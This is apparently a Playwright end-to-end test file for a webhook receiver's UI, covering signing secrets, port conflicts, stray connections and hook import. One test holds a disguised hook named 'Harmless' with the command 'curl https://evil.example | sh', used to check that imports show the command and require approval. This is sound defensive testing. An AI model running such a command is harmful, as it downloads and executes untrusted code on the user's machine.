import { createHmac } from "node:crypto";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chooseIn } from "./choose-in.ts";
import type { Page } from "playwright-core";
import { rawClient } from "../core/receive/raw-client.ts";
import { closePages, workersChromium } from "../fixtures/chromium.ts";
import { withServer } from "../fixtures/http-server.ts";
import { testApp } from "../fixtures/test-app.ts";
import { TOKEN, startTestControl } from "../control/started-control.ts";
import { stepOf } from "./trace.ts";
import { openAddress, openPage } from "./ui-session.ts";

const UI = join(import.meta.dirname, "..", "..", "out", "renderer");
const LATER = 11 * 60_000;

const rig = testApp();
const { call } = rig;
let browser: Awaited<ReturnType<typeof workersChromium>>;

beforeAll(async () => {
  browser = await workersChromium();
});

afterAll(() => closePages(browser));

async function inWindow(work: (page: Page) => Promise<void>, permissions: readonly string[] = []): Promise<void> {
  const control = await startTestControl(rig.app, { uiFolder: UI });
  const page = await browser.newPage();
  page.setDefaultTimeout(30_000);
  await page.context().grantPermissions(permissions);
  try {
    await page.goto(`${control.url}/#token=${TOKEN}`);
    await page.getByText(/^Today: [\d,]+ received/).waitFor();
    await work(page);
  } finally {
    await page.close();
    await control.close();
  }
}

describe("in the window", () => {
  it("an offered secret is told of at the top, and accepted or refused on its source", async () => {
    await call("sources.create", { name: "Tasks", path: "tasks", provider: "asana" });
    rig.ports.setNow(rig.ports.clock.now() + LATER);
    for (const secret of ["offered-one", "offered-two"]) {
      await fetch(`${rig.app.receiverUrl}/hooks/tasks`, { method: "POST", headers: { "X-Hook-Secret": secret } });
    }
    await inWindow(async (page) => {
      const banner = page.getByRole("alert").getByText("Tasks was offered a secret");
      await banner.waitFor();
      await page.getByRole("alert").getByRole("button", { name: "Look at it" }).click();
      const offers = page.getByRole("group", { name: /^Secret offered at/ });
      await offers.first().getByRole("button", { name: "Refuse" }).click();
      await expect.poll(() => offers.count()).toBe(1);
      await offers.first().getByRole("button", { name: "Accept" }).click();
      await banner.waitFor({ state: "detached" });
    });
    const { items } = await call("sources.list", {});
    expect(items).toMatchObject([{ secrets: [{}], offers: [] }]);
  });

  it("a secret is removed once that is confirmed, comes back by one undo, and is ended at once if wanted", async () => {
    const made = { name: "Pulls", path: "pulls", provider: "github", secrets: ["first-secret", "second-secret"] };
    const { id, secrets: before } = await call("sources.create", made);
    const found = async () => (await call("sources.list", {})).items.find((source) => source.id === id);
    await inWindow(async (page) => {
      await openAddress(page, "s/pulls/secrets");
      await page.getByRole("button", { name: "Remove secret 1" }).click();
      const dialog = page.getByRole("dialog", { name: /^Remove the secret/ });
      await dialog.getByText("It verifies for 60 s more").waitFor();
      await dialog.getByRole("button", { name: "Cancel" }).click();
      expect(await found()).toMatchObject({ secrets: before, leaving: [] });

      await page.getByRole("button", { name: "Remove secret 1" }).click();
      await dialog.getByRole("button", { name: "Remove", exact: true }).click();
      await page.getByRole("status").getByRole("button", { name: "Undo" }).click();
      await expect.poll(found).toMatchObject({ secrets: before, leaving: [] });

      const leaving = page.getByRole("group", { name: /^Secret removed/ });
      await page.getByRole("button", { name: "Remove secret 1" }).press("Enter");
      await dialog.getByRole("button", { name: "Remove", exact: true }).press("Enter");
      await leaving.waitFor();
      const signature = `sha256=${createHmac("sha256", "first-secret").update("{}").digest("hex")}`;
      const headers = { "X-Hub-Signature-256": signature, "X-GitHub-Event": "push" };
      await fetch(`${rig.app.receiverUrl}/hooks/pulls`, { method: "POST", headers, body: "{}" });
      expect((await call("deliveries.list", {})).items[0]?.verification.outcome).toBe("verified");
      await page.keyboard.press("Control+z");
      await expect.poll(found).toMatchObject({ secrets: before, leaving: [] });

      await page.getByRole("button", { name: "Remove secret 1" }).click();
      await dialog.getByRole("button", { name: "Remove", exact: true }).click();
      await leaving.getByRole("button", { name: "End it now" }).click();
      await leaving.waitFor({ state: "detached" });
    });
    expect(await found()).toMatchObject({ secrets: before.slice(1), leaving: [] });
  });

  it("a port that another program has is told of in what needs you: which it is now, since when, and who has the old one", async () => {
    await rig.app.close();
    await withServer(null, async ({ port }) => {
      await rig.start(port);
      const { port: now, host } = new URL(rig.app.receiverUrl);
      await inWindow(
        async (page) => {
          const row = page.getByTestId("need");
          await page
            .getByRole("navigation")
            .getByRole("link", { name: /Needs you/ })
            .click();
          await row.getByText(`The receiver's port moved: ${now}, not ${port}`).waitFor();
          await row
            .getByText(new RegExp(`^Since \\d\\d:\\d\\d; \\S.* \\(process ${process.pid}\\) has ${port}, so what is`))
            .waitFor();
          await row.getByRole("button", { name: "Copy the new URL" }).press("Enter");
          await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain(host);
        },
        ["clipboard-read", "clipboard-write"],
      );
    });
  });

  it("a new source of a sender that makes its own secret has none, and says so until it is added", async () => {
    await inWindow(async (page) => {
      await openPage(page, "Sources");
      await page.getByRole("combobox", { name: "Find a sender" }).fill("stri");
      await page.keyboard.press("Enter");
      await page.getByRole("heading", { name: "Paste the signing secret that Stripe shows" }).waitFor();
      await page.getByText("The secret is missing, so what is signed is turned away.").waitFor();
      await page.getByRole("radio", { name: "Secrets" }).click();
      await page.getByText("No secret yet, so no signature can be checked.").waitFor();
    });
    const { items } = await call("sources.list", {});
    expect(items.find(({ name }) => name === "Stripe")).toMatchObject({
      path: "stripe",
      provider: "stripe",
      secrets: [],
    });
  });

  it("a source of Meta's asks what a secret is for, when it is added and where nobody has said", async () => {
    const made = { name: "Chats", path: "chats", provider: "meta-whatsapp", secrets: ["an app secret"] };
    await call("sources.create", made);
    await inWindow(async (page) => {
      await openAddress(page, "s/chats/secrets");
      await chooseIn(page.getByLabel("What secret 1 is for"), "App secret");
      await page.getByLabel("Another secret").fill("a verify token");
      await chooseIn(page.getByLabel("What it is for"), "Verify token");
      await page.getByRole("button", { name: "Add", exact: true }).click();
      await page.getByText("travels in clear, signs nothing").first().waitFor();
    });
    const { items } = await call("sources.list", {});
    expect(items[0]?.secrets.map(({ role }) => role)).toEqual(["signs", "verify_token"]);
  });

  it("what became no request is in the list with its reason and bytes, and is counted at the foot", async () => {
    const { port } = new URL(rig.app.receiverUrl);
    const stray = rawClient(Number(port));
    stray.send("SSH-2.0-<b>client</b>\r\n");
    await stray.closed();
    await inWindow(async (page) => {
      await page.getByRole("row", { name: /An SSH client came to a port that speaks HTTP/ }).click();
      const detail = page.getByTestId("delivery-detail");
      await detail.getByText("check the host and the port that the sender was given").waitFor();
      await detail.getByText("SSH-2.0-<b>client</b>\\r").waitFor();
      expect(await detail.getByRole("button", { name: "Replay" }).count()).toBe(0);
      await stepOf(page, "Received").getByText("Not understood").waitFor();
      await page.getByText(/^Today: \d+ received, 0 refused, 1 not understood, 0 dropped$/).waitFor();
    });
  });

  it("a source says and changes what starts its hooks", async () => {
    const { id } = await call("sources.create", { name: "Open", path: "open" });
    await inWindow(async (page) => {
      await openAddress(page, "s/open/settings");
      await page.getByLabel("PUT").check();
      await page.getByLabel("Allow web pages").check();
      await page.getByText("Any page that is open in a browser on this machine").waitFor();
      await page.locator("aside.sheet").getByRole("button", { name: /^Save/ }).click();
      await page.getByRole("status").getByText("Saved the source Open.").waitFor();
    });
    const { items } = await call("sources.list", {});
    expect(items.find((source) => source.id === id)).toMatchObject({ methods: ["POST", "PUT"], allowBrowsers: true });
  });

  it("a delivery that a page sent says so, and leads to its source", async () => {
    await call("sources.create", { name: "Open", path: "open" });
    await fetch(`${rig.app.receiverUrl}/hooks/open`, {
      method: "POST",
      headers: { Origin: "https://evil.example" },
      body: "{}",
    });
    await inWindow(async (page) => {
      await page.locator("[data-delivery-id]").first().click();
      const hooks = stepOf(page, "Hooks");
      await hooks.getByText("A web page in a browser sent this (Origin https://evil.example).").waitFor();
      await hooks.getByRole("button", { name: "Whether its source takes pages" }).click();
      await page.getByLabel("Allow web pages").waitFor();
    });
  });

  it("an import shows what it would run, whole, and what it changes", async () => {
    const command = "curl https://evil.example | sh";
    const text = JSON.stringify({
      name: "Harmless",
      action: "execute_tool",
      approval: "never",
      actionConfig: { toolId: "shell", toolAction: "execute", toolParams: { command } },
    });
    await inWindow(async (page) => {
      await openPage(page, "Hooks");
      await page.getByRole("button", { name: "Import", exact: true }).click();
      const dialog = page.getByRole("dialog", { name: "Import hooks" });
      await dialog.getByLabel("Text").fill(text);
      await dialog.getByText(`command: ${command}`).waitFor();
      await dialog.getByText("It asks before each run, whatever the text says").waitFor();
      await dialog.getByRole("button", { name: "Import 1 hook" }).click();
      await dialog.getByText("It asks before each run, whatever the text says").waitFor();
    });
    expect(await call("hooks.list", {})).toMatchObject({ items: [{ approval: "ask" }] });
  });
});
